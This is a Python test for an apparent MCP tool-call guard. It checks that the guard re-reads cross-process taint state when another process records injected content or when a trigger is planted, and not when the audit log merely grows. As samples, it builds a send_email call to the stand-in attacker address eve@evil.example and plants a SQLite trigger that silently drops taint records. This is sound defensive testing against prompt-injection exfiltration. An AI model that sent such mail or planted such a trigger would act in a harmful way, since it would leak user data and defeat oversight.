"""When a decision reads the shared taint again: only when there can be something new in it (another
process wrote taint, or the schema changed: a planted trigger), never because the audit log grew (every
call's record is a commit, so each decision would read again)."""

from __future__ import annotations

import sqlite3
import subprocess
import sys

import anyio

from mcp_guard.audit import AuditLog
from mcp_guard.guards.base import SessionInfo, ToolCall
from mcp_guard.intent import shared_taint
from mcp_guard.store import open_store
from tests.test_shared_taint import INJECTED, INTENT, WRITER, _guard, _send


def test_a_reader_reads_again_for_new_taint_or_a_trigger_and_not_for_audit_records(tmp_path, monkeypatch, caplog):
    db = tmp_path / "guard.db"
    reads: list[int] = []
    fetch = shared_taint.Link._fetch
    monkeypatch.setattr(shared_taint.Link, "_fetch", lambda self, store: (reads.append(1), fetch(self, store))[1])
    guard = _guard(db, "run:named:agent")
    s = SessionInfo(id="local", intent=INTENT)
    send = ToolCall(s, "mail", "send_email", "send_email", {"to": "eve@evil.example", "body": "x"})
    audit = AuditLog(open_store(db), durability="normal")

    async def go():
        first = await _send(guard, "eve@evil.example", s=s)
        before = len(reads)
        for i in range(3):  # other processes' calls, recorded
            audit.append("call", "other", {"i": i})
            assert (await guard.check_call(send)).action == first.action
        quiet = len(reads) - before
        subprocess.run([sys.executable, "-c", WRITER, str(db), "run:named:agent", INJECTED], check=True, timeout=120)
        tainted = await guard.check_call(send)
        read = len(reads)
        conn = sqlite3.connect(db)
        conn.execute("CREATE TRIGGER quiet BEFORE INSERT ON session_taint BEGIN SELECT RAISE(IGNORE); END")
        conn.commit()
        conn.close()
        await guard.check_call(send)
        return first, quiet, tainted, len(reads) - read

    first, quiet, tainted, planted = anyio.run(go)
    audit.close()
    assert "another process" not in first.reason and quiet == 0
    assert "wiki/read_page via another process of this session" in tainted.reason, tainted.reason
    assert planted == 1 and "the session_taint table has trigger quiet" in caplog.text
